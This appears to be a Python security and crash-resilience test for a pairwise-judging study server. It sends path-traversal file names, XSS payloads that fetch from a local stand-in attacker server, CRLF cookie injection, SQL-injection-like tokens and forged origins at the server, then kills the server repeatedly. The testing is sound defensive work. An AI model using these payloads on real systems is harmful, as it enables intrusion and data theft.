"""A study with all of it switched on, attacked, and its server killed -9 fifty times.

``python -m benchmarks.study_attacked [--kills 50] [--judges 12]`` (about four minutes;
with Chromium and ``pip install 'bayesduel[browser]'``)

Two criteria with grades, reasons and comments; training, gold, repeats, overlap, a quota; sources,
of which a machine answers in a process of its own; uploads, a webhook, `--frame-ancestors`, a
recruiter. First every attack of `ATTACKS` is sent, then Chromium opens each page while contents,
names and comments hold scripts that call a server of the attacker, then judges answer at once
(twice, late, and take answers back) while the server is killed and started again. At the end what
was acknowledged has to be in the study, each once, and in the posts of the webhook. Ends with
status 1 if an attack is answered with an error of the server or leaves a trace, a script runs, or
an answer is lost or doubled.
"""

import asyncio
import json
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from argparse import ArgumentParser
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import numpy as np

import bayesduel as bd
from bayesduel.models import BradleyTerry, Sources
from bayesduel.serve.access import Access

ARMS = ("plain", "warm", "exact", "long")
ITEMS = tuple(f"question {k}" for k in range(60))
SITE = "https://school.example.org"
CHROMIUM = "/usr/bin/chromium"
ASKING = bd.study.Asking(
    grades=2, both_bad=True, criteria=["helpful", "short"], reasons=["clear", "polite"],
    comment=True,
)  # fmt: skip
COMMENT = "=1+1 <script>alert(7)</script> \x01\x1b[31m\u202e שלום\r\nSet-Cookie: a=b"
MACHINE = """
import sys
import bayesduel as bd
from bayesduel.study.questions import StudyStopped

study = bd.Study(sys.argv[1])
acknowledged = open(sys.argv[2], "a", buffering=1)
while True:
    try:
        ticket = study.ask(judge="machine")
    except StudyStopped:
        break
    study.tell(ticket, "left better", criteria={"short": "tie"}, cost=0.25)
    acknowledged.write(ticket.id + "\\n")
"""


# A server of the pages is a copy of a process that has read the package: it starts at once.
STARTER = """
import os, signal, sys
import nh3, markdown_it, uvicorn
import bayesduel as bd
import bayesduel.serve.app, bayesduel.serve.server
from bayesduel.cli import main
from bayesduel.cli.serve import _rehearse

with bd.Study(sys.argv[2]) as study:
    _rehearse(study)
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for line in sys.stdin:
    child = os.fork()
    if not child:
        os.dup2(2, 1)
        main(["study", "serve", *sys.argv[2:]])
    print(child, flush=True)
"""


class Server(ThreadingHTTPServer):
    """Takes whatever is sent to it: the receiver of the webhook, or the attacker."""

    daemon_threads = True
    request_queue_size = 128

    def __init__(self):
        self.taken = []
        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def address(self):
        """Where it answers."""
        return f"http://127.0.0.1:{self.server_port}/"


class Handler(BaseHTTPRequestHandler):
    """Keeps a request, and answers that it is taken."""

    def do_POST(self):
        """Keep the post."""
        body = self.rfile.read(int(self.headers.get("content-length", 0)))
        self.server.taken.append((self.path, dict(self.headers), body))
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST

    def log_message(self, *_):
        """Say nothing."""


def made(folder):
    """Make the study; return the token of an administrator, and of the link of a panel."""
    study = bd.Study(
        folder / "s.study", arms=ARMS, items=ITEMS, asking=ASKING, stop=None,
        model=BradleyTerry(Sources("source", target="people")),
        sources={"people": 1.0, "machine": 0.01},
        judging=bd.study.Judging(
            quota=10_000, gold=[("long", "plain", "left", ITEMS[0]),
                                ("exact", "plain", "left", ITEMS[1], "Choose the first one.")],
            gold_share=0.05, training=[("long", "warm", "left", ITEMS[2], "It says more.")],
            overlap=0.1, repeats=0.1, on_fail="warn",
        ),
    )  # fmt: skip
    access = Access(study.store)
    tokens = [access.invite(*who, 1)[1] for who in (("root", "admin"), ("panel", "open"))]
    study.close()
    return tokens


class Pages:
    """The server of the pages, which is killed and started again."""

    def __init__(self, folder, hook):
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            self.port = free.getsockname()[1]
        self.base, self._child = f"http://127.0.0.1:{self.port}", 0
        words = [
            sys.executable, "-c", STARTER, "serve", str(folder / "s.study"),
            "--uploads", str(folder / "uploads"), "--webhook", hook, "--frame-ancestors", SITE,
            "--recruiter", "prolific", "--completion", "C0DE", "--port", str(self.port),
        ]  # fmt: skip
        self._starter = subprocess.Popen(
            words, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
            stderr=(folder / "server.log").open("a"),
        )  # fmt: skip

    def start(self):
        """Start it, and return once it answers."""
        self._starter.stdin.write("\n")
        self._starter.stdin.flush()
        self._child = int(self._starter.stdout.readline())
        until = time.monotonic() + 120
        while time.monotonic() < until:
            try:
                socket.create_connection(("127.0.0.1", self.port), 1).close()
            except OSError:
                time.sleep(0.02)
            else:
                return
        raise TimeoutError("the server did not start in two minutes")

    def kill(self):
        """End it at once, as ``kill -9`` does."""
        os.kill(self._child, signal.SIGKILL)
        while Path(f"/proc/{self._child}").exists():
            time.sleep(0.005)

    def end(self):
        """End it for good."""
        self.kill()
        self._starter.stdin.close()
        self._starter.wait()


def entered(base, token, participant):
    """Return the cookies of a participant who came by the open link of the panel."""
    sent = {"token": token, "arrival": f"PROLIFIC_PID={participant}&STUDY_ID=s&SESSION_ID=t"}
    answer = httpx.post(f"{base}/enter", data=sent, headers={"origin": base}, timeout=60)
    assert answer.status_code == 303, answer.text
    given = [line.partition(";")[0] for line in answer.headers.get_list("set-cookie")]
    return "; ".join(given)


def uploaded(root, files):
    """Upload files by name, and return the status of each."""
    found = {}
    for name, data in files.items():
        query = {"name": name, "size": len(data), "offset": 0}
        found[name] = root.post("/api/admin/upload", params=query, content=data).status_code
    return found


def contents(evil):
    """Return files to upload: pictures that are pages, and texts that call the attacker."""
    call = f"fetch('{evil}script')"
    page = f"<!doctype html><title>x</title><script>{call}</script><img src={evil}image>"
    vector = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{call}">'
        f'<script>{call}</script><image href="{evil}image"/><foreignObject><iframe '
        f'xmlns="http://www.w3.org/1999/xhtml" src="{evil}frame"/></foreignObject></svg>'
    )
    text = (
        (
            f"<script>{call}</script> <img src=x onerror={call}> [x](javascript:{call})\\n\\n"
            f"![x]({evil}picture.png) <iframe src={evil}frame></iframe> "
            f"<style>@import '{evil}';</style>"
            f"\\n\\n$\\\\href{{javascript:{call}}}{{x}}$ <svg onload={call}>"
        )
        .replace("\\n", "\n")
        .replace("\\\\", "\\")
    )
    rows = ["arm,item,content"]
    for item in ITEMS:
        rows.append(f',{item},"{text.replace(chr(34), chr(34) * 2)}"')
        rows += [f"plain,{item},page.png", f"warm,{item},vector.svg", f"long,{item},film.mp4"]
        rows.append(f'exact,{item},"![x](vector.svg) {text}"')
    return {"content.csv": "\n".join(rows).encode(), "page.png": page.encode(),
            "film.mp4": page.encode(), "vector.svg": vector.encode()}  # fmt: skip


NAMES = ("../x.png", "a/../../x.png", "/etc/x.png", "..\\x.png", "C:\\x.png", "C:x.png", "x.zip",
         "x.html", "x.js", "x.png:stream", "x\0.png", "x\r\n.png", ".x.png", "CON.png", "aux.txt",
         "sub/NUL.png", "com1.png", "x.png.", "a/b/c/d/e.png", "é" * 150 + ".png", "")  # fmt: skip


def requests(key, other):
    """Return attacks on the pages of a judge: method, path, what is sent, and the answer due.

    key: of a ticket of the judge.
    other: of a ticket of somebody else.
    """
    said = {"answer": "1 better", "criteria": {"short": "="}}
    answer = "/api/judge/answer"

    def post(**changes):
        return {"json": {"key": key, **said} | changes}

    return {
        "ticket of another": ("POST", answer, post(key=other), {404}),
        "no ticket": ("POST", answer, post(key="abcd-1.0"), {404}),
        "huge ticket": ("POST", answer, post(key=f"{'9' * 50}-{'9' * 9}.0"), {400, 404}),
        "later key": ("POST", answer, post(key=key.replace(".0", ".7")), {400}),
        "negative key": ("POST", answer, post(key=key.replace(".0", ".-1")), {400}),
        "wrong word": ("POST", answer, post(answer="left"), {400}),
        "wrong criterion": ("POST", answer, post(criteria={"__proto__": "="}), {400}),
        "no criterion": ("POST", answer, post(criteria={}), {400}),
        "reason of nobody": ("POST", answer, post(reasons=["<b>"]), {400}),
        "many reasons": ("POST", answer, post(reasons=["clear"] * 99), {400}),
        "huge comment": ("POST", answer, post(comment="x" * 2001), {400}),
        "NUL": ("POST", answer, post(comment="a\0b"), {400}),
        "half a letter": ("POST", answer, {"content": json.dumps(post(comment="\ud800")["json"])},
                          {400}),
        "huge body": ("POST", answer, {"content": b"x" * 10**6}, {413}),
        "deep body": ("POST", answer, {"content": b"[" * 60_000}, {400}),
        "no body": ("POST", answer, {"content": b""}, {400}),
        "seen before": ("POST", answer, post(seen=-1), {400}),
        "seen for ever": ("POST", answer, post(seen=1e300), {400}),
        "more fields": ("POST", answer, post(judge="root"), {400}),
        "undo of another": ("POST", "/api/judge/undo", {"json": {"ticket": other[:-2]}}, {404}),
        "media of another": ("GET", f"/judge/media/{other[:-2]}/left/0", {}, {404}),
        "media above": ("GET", "/judge/media/..%2f..%2fs.study/left/0", {}, {404}),
        "media number": ("GET", f"/judge/media/{key[:-2]}/left/-1", {}, {404}),
        "media side": ("GET", f"/judge/media/{key[:-2]}/..%2f/0", {}, {404}),
        "static above": ("GET", "/static/..%2f..%2fapp.py", {}, {404}),
        "admin page": ("GET", "/admin", {}, {401, 403}),
        "admin tickets": ("GET", "/admin/tickets.csv", {}, {401, 403}),
        "admin act": ("POST", "/api/admin/exclude",
                      {"json": {"judge": "root", "excluded": True, "because": "x"}}, {403}),
        "upload": ("POST", "/api/admin/upload?name=x.png&size=1&offset=0", {"content": b"x"},
                   {403}),
        "other origin": ("POST", answer, post() | {"headers": {"origin": "https://evil.example"}},
                         {403}),
        "other host": ("GET", "/judge", {"headers": {"host": "evil.example"}}, {400}),
        "method": ("DELETE", answer, {}, {405}),
    }  # fmt: skip


def attacked(pages, root, panel, evil, folder):
    """Send every attack; return those that were not refused as they should be, by name."""
    wrong = {}
    before = {p for p in folder.rglob("*") if p.is_file()}
    for name in NAMES:
        status = uploaded(root, {name: b"x"})[name]
        if status != 400:
            wrong[f"upload {name!a}"] = status
    left = {p for p in folder.rglob("*") if p.is_file()} - before
    wrong |= {f"written {p.name}": 0 for p in left if "s.study" not in p.name}
    found = uploaded(root, contents(evil))
    page = root.get("/admin/content", headers={"accept": "text/html"}).text
    published = root.post("/api/admin/content", json={"publish": True}).status_code
    if {*found.values(), published} != {200} or "Nothing is missing" not in page:
        wrong["contents"] = [found, published]
    judges = []
    for participant in ("ann", "bob"):
        cookie = entered(pages.base, panel, participant)
        headers = {"cookie": cookie, "origin": pages.base}
        judges.append(httpx.Client(base_url=pages.base, headers=headers, timeout=60))
        judges[-1].post("/api/judge/begin", json={"agree": True})
    mine, other = (each.get("/api/judge").json()["ticket"]["key"] for each in judges)
    for name, (method, path, sent, due) in requests(mine, other).items():
        status = judges[0].request(method, path, **sent).status_code
        if status not in due:
            wrong[name] = status
    for participant in ("a%0d%0aSet-Cookie:%20evil=1", "<script>", "../../x", "a" * 900):
        sent = {"token": panel, "arrival": f"PROLIFIC_PID={participant}"}
        got = httpx.post(f"{pages.base}/enter", data=sent, headers={"origin": pages.base})
        if got.status_code >= 500 or any("evil" in v for v in got.headers.get_list("set-cookie")):
            wrong[f"participant {participant[:20]}"] = got.status_code
    for token in ("x", "a" * 43, "' or 1=1 --", "a" * 5000):
        headers = {"authorization": f"Bearer {token}"}
        status = httpx.get(f"{pages.base}/api/judge", headers=headers).status_code
        if status not in (401, 429):
            wrong[f"token {token[:9]}"] = status
    policy = judges[0].get("/judge").headers["content-security-policy"]
    if not re.search(rf"frame-ancestors ('self' )?{SITE}(;|$)", policy):
        wrong["frames"] = policy
    said = {"key": mine, "answer": "1 better", "criteria": {"short": "="}, "comment": COMMENT}
    answers = [judges[0].post("/api/judge/answer", json=said).status_code for _ in range(3)]
    late = judges[0].post("/api/judge/answer", json=said | {"answer": "2 better"}).status_code
    if answers != [200] * 3 or late != 409:
        wrong["the same again, then another"] = [*answers, late]
    return wrong


def looked_at(pages, root_token, panel, attacker):
    """Open each page in Chromium; return what a script, a frame or a picture has called."""
    from playwright.sync_api import sync_playwright

    ran = []
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        window = browser.new_context()
        page = window.new_page()
        page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
        page.goto(f"{pages.base}/enter?PROLIFIC_PID=cyd#{panel}")
        page.wait_for_selector("#begin:visible")
        page.click("#begin")
        for k in range(6):
            page.wait_for_selector("#pair:not([hidden])")
            page.wait_for_function("() => ready")
            media = page.eval_on_selector_all(
                "#pair img, #pair video", "found => found.map(each => each.src)"
            )
            other = window.new_page()
            for address in media:  # a film, a page called .png, a picture with a script
                other.goto(address, wait_until="commit")
                other.wait_for_timeout(200)
            other.close()
            ticket = page.evaluate("state.ticket.key")
            for each in ("1", "2", "n"):
                page.keyboard.press(each)
            page.keyboard.type(f"<script>fetch('{attacker.address}comment')</script> {k}")
            page.keyboard.press("Escape")
            page.keyboard.press("Enter")
            page.wait_for_function(
                """(key) => !document.getElementById("feedback").hidden
                    || state.ticket.key !== key""",
                arg=ticket,
            )
            if page.locator("#feedback").is_visible():
                page.click("#go-on")
        page.goto(f"{pages.base}/enter#{root_token}")
        page.wait_for_selector("#judges")
        for place in ("/admin", "/standings", "/admin/content"):
            page.goto(f"{pages.base}{place}", wait_until="commit")
            page.wait_for_timeout(300)
        page.goto("about:blank")
        page.set_content(f'<iframe src="{pages.base}/judge"></iframe>')
        page.wait_for_timeout(500)
        framed = [f for f in page.frames[1:] if f.query_selector("#pair") is not None]
        ran += ["shown in a frame of another site"] * len(framed)
        browser.close()
    return ran + [path for path, *_ in attacker.taken]


async def judged(pages, cookie, number, until, seen):
    """Answer until the time is over: at times twice at once, late, or taken back."""
    coins = np.random.default_rng(number)
    headers = {"cookie": cookie, "origin": pages.base}
    async with httpx.AsyncClient(base_url=pages.base, headers=headers, timeout=20) as http:

        async def sure(path, body):
            while True:
                try:
                    answer = await http.post(path, json=body)
                except httpx.TransportError:
                    seen["cut"] += 1
                    await asyncio.sleep(0.1)
                    continue
                if answer.status_code == 200:
                    return answer.json()
                seen["status"][answer.status_code] += 1
                if answer.status_code not in (429, 503):
                    return None
                await asyncio.sleep(0.2)

        state = await sure("/api/judge/begin", {"agree": True})
        before = None
        while time.monotonic() < until and state["ticket"]:
            key = state["ticket"]["key"]
            words = [each["answer"] for each in state["asking"]["choices"]]
            answer, other = coins.choice(words, 2)
            body = {"key": key, "answer": str(answer), "criteria": {"short": str(other)},
                    "reasons": ["polite"][: int(coins.integers(2))],
                    "comment": f"{key} {COMMENT}", "seen": 1.0}  # fmt: skip
            sent = [sure("/api/judge/answer", body) for _ in range(1 + (coins.random() < 0.3))]
            states = [found for found in await asyncio.gather(*sent) if found is not None]
            seen["acknowledged"][key] = body
            state = states[-1]
            if before is not None and coins.random() < 0.1:
                late = before | {"answer": str(coins.choice(words))}
                await sure("/api/judge/answer", late)
            if state["last"] == key.rpartition(".")[0] and coins.random() < 0.1:
                back = await sure("/api/judge/undo", {"ticket": state["last"]})
                seen["undone"].add(key)
                state = back or await sure("/api/judge/begin", {"agree": True})
                body = None
            before = body


async def killed(pages, panel, folder, kills, n_judges):
    """Let judges and a machine answer while the server is killed; return what they saw."""
    seen = {"acknowledged": {}, "undone": set(), "cut": 0, "status": Counter()}
    cookies = [entered(pages.base, panel, f"judge{k}") for k in range(n_judges)]
    machine = subprocess.Popen(
        [sys.executable, "-c", MACHINE, folder / "s.study", folder / "machine.txt"]
    )
    while not (folder / "machine.txt").exists():
        await asyncio.sleep(0.05)
    rng = np.random.default_rng(1)
    stop = {"at": float("inf")}

    class Until:
        """A time that is set once the kills are done."""

        def __gt__(self, now):
            return stop["at"] > now

    tasks = [
        asyncio.create_task(judged(pages, cookie, k, Until(), seen))
        for k, cookie in enumerate(cookies)
    ]
    for _ in range(kills):
        answers = len(seen["acknowledged"]) + int(rng.integers(2, 12))
        patience = time.monotonic() + 20
        while len(seen["acknowledged"]) < answers and time.monotonic() < patience:
            await asyncio.sleep(0.01)
        await asyncio.sleep(rng.uniform(0.0, 0.2))
        pages.kill()
        if machine.poll() is None and rng.random() < 0.1:
            machine.kill()
            machine.wait()
            machine = subprocess.Popen(machine.args)
        await asyncio.to_thread(pages.start)
    stop["at"] = time.monotonic() + 5
    await asyncio.gather(*tasks)
    machine.kill()
    machine.wait()
    return seen


def checked(folder, seen, hook):
    """Return what was lost or doubled, by name, and how much there is of each."""
    study = bd.Study(folder / "s.study")
    trail, words = {}, {"1": "left", "2": "right"}
    for event in study.audit():
        trail.setdefault(event["ticket"], []).append(event)
    lost = []
    for key, body in seen["acknowledged"].items():
        ticket, _, times = key.rpartition(".")
        told = [e for e in trail.get(ticket, ()) if e["event"] == "told"]
        side, _, degree = body["answer"].partition(" ")
        said = " ".join(filter(None, (words.get(side, side), degree)))
        said = {"=": "tie", "both bad": "tie (bothbad)"}.get(body["answer"], said)
        own = told[int(times)] if len(told) > int(times) else {}
        whole = own.get("outcome") == said and own.get("comment") == body["comment"]
        lost += [] if whole else [key]
    doubled = [
        ticket
        for ticket, events in trail.items()
        if ticket is not None
        and sum(e["event"] == "told" for e in events)
        > 1 + sum(e["event"] == "withdrawn" for e in events)
    ]
    machine = set((folder / "machine.txt").read_text().split())
    lost += sorted(ticket for ticket in machine if ticket not in trail)
    told = [e for events in trail.values() for e in events if e["event"] in ("told", "withdrawn")]
    until = time.monotonic() + 60
    while time.monotonic() < until:
        posts = {headers["webhook-id"]: json.loads(body) for _, headers, body in hook.taken}
        kinds = Counter(post["event"] for post in posts.values())
        if kinds["told"] + kinds["withdrawn"] >= len(told):
            break
        time.sleep(0.2)
    rows = study.rows(everything=True)
    whole = folder / "all.parquet"
    study.export(whole, everything=True)
    read = bd.read_duels(whole)
    return {
        "acknowledged": len(seen["acknowledged"]), "of the machine": len(machine),
        "taken back": len(seen["undone"]), "events": len(told), "lost": lost, "doubled": doubled,
        "not posted": len(told) - kinds["told"] - kinds["withdrawn"],
        "kinds": dict(Counter(row["kind"] for row in rows if row["state"] == "told")),
        "cost": study.status(check=False).cost,
        "cost due": 0.25 * sum(row["judge"] == "machine" for row in rows if row["state"] == "told"),
        "export": [read.n_duels, study.duels().n_duels],
        "answered by the server with": dict(seen["status"]), "connections cut": seen["cut"],
    }  # fmt: skip


def main():
    """Attack, look, kill, and print what is found."""
    parser = ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--kills", type=int, default=50)
    parser.add_argument("--judges", type=int, default=12)
    given = parser.parse_args()
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        root_token, panel = made(folder)
        hook, attacker = Server(), Server()
        pages = Pages(folder, hook.address)
        pages.start()
        try:
            headers = {"authorization": f"Bearer {root_token}"}
            root = httpx.Client(base_url=pages.base, headers=headers, timeout=60)
            found = {"attacks": len(NAMES) + len(requests("a-1.0", "b-1.0"))}
            found["not refused"] = attacked(pages, root, panel, attacker.address, folder)
            found["scripts and calls"] = looked_at(pages, root_token, panel, attacker)
            seen = asyncio.run(killed(pages, panel, folder, given.kills, given.judges))
            found |= {"kills": given.kills} | checked(folder, seen, hook)
        finally:
            pages.end()
            log = (folder / "server.log").read_text()
        found["tracebacks"] = log.count("Traceback")
    for each, value in found.items():
        print(f"{each}: {value}")
    if found["tracebacks"]:
        print(log[-3000:])
    wrong = ("not refused", "scripts and calls", "lost", "doubled", "not posted", "tracebacks")
    bad = any(found[each] for each in wrong) or found["cost"] != found["cost due"]
    bad |= found["export"][0] != found["export"][1]
    bad |= any(status >= 500 and status != 503 for status in seen["status"])
    raise SystemExit(bad)


if __name__ == "__main__":
    main()
